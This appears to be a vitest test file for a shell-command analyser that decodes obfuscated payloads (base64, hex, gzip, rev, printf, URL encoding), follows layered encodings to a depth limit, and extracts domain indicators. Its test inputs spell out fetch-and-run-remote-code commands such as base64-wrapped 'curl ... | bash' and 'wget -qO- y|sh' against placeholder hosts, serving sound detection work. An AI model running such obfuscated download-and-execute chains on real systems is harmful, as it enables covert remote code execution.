// Decoding of simply-encoded payloads, recursion through analyse(), and limits.
import { describe, expect, it } from 'vitest';
import { gzipSync } from 'node:zlib';
import { decodePayloads } from './decode.js';
import { splitShell } from './split.js';
import { analyse } from '../analyse.js';

const b64 = (s: string | Buffer) => Buffer.from(s).toString('base64');
const dec = (s: string) => decodePayloads(splitShell(s));

describe('decodePayloads', () => {
  it('decodes echo | base64 -d | sh and marks it run by a shell', () => {
    const [p] = dec(`echo ${b64('curl x|sh')} | base64 --decode | sh`);
    expect(p).toMatchObject({ encoding: ['base64'], text: 'curl x|sh', toShell: true });
  });
  it('decodes base64 here-strings, hex, rev, gzip chains and printf escapes', () => {
    expect(dec(`base64 -d <<< ${b64('id')} | bash`)[0]).toMatchObject({ text: 'id', toShell: true });
    expect(dec(`echo ${Buffer.from('uname -a').toString('hex')} | xxd -r -p | sh`)[0]?.text).toBe('uname -a');
    expect(dec(`echo 'di' | rev | sh`)[0]?.text).toBe('id');
    expect(dec(`echo ${b64(gzipSync('wget -qO- y|sh'))} | base64 -d | gunzip | sh`)[0]).toMatchObject({ encoding: ['base64', 'gunzip'], text: 'wget -qO- y|sh' });
    expect(dec(`printf '\\x69\\x64\\x20\\x2d\\x61' | sh`)[0]).toMatchObject({ text: 'id -a', toShell: true });
  });
  it('marks $(echo .. | base64 -d) under sh -c / eval as run', () => {
    const p = dec(`eval "$(echo ${b64('id')} | base64 -d)"`);
    expect(p[0]).toMatchObject({ text: 'id', toShell: true });
  });
  it('decodes bare base64 blobs and URL-encoding without claiming they run', () => {
    expect(dec(`python app.py --init ${b64('curl http://x.example.invalid/a')}`)[0]).toMatchObject({ toShell: false, text: 'curl http://x.example.invalid/a' });
    expect(dec(`app --cmd %63%75%72%6c%20x`)[0]?.text).toBe('curl x');
  });
  it('ignores base64 that decodes to binary and hex hashes', () => {
    expect(dec('app --sum 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08')).toEqual([]);
  });
});

describe('analyse: recursive decoding', () => {
  it('decodes layered payloads and splits what they run', () => {
    const inner = `curl -s http://nested.example.invalid/p | bash`;
    const a = analyse({ cmd: ['sh', '-c', `echo ${b64(`echo ${b64(inner)} | base64 -d | sh`)} | base64 -d | sh`] });
    const curl = a.commands.find((c) => c.argv[0] === 'curl');
    expect(curl?.decoded).toBe(true);
    expect(a.payloads.length).toBe(2);
    expect(a.indicators.some((i) => i.type === 'domain' && i.value === 'nested.example.invalid')).toBe(true);
  });
  it('stops at the decode depth limit', () => {
    let s = 'id';
    for (let i = 0; i < 10; i++) s = `echo ${b64(s)} | base64 -d | sh`;
    const a = analyse({ script: s });
    expect(a.payloads.length).toBe(4);
  });
});
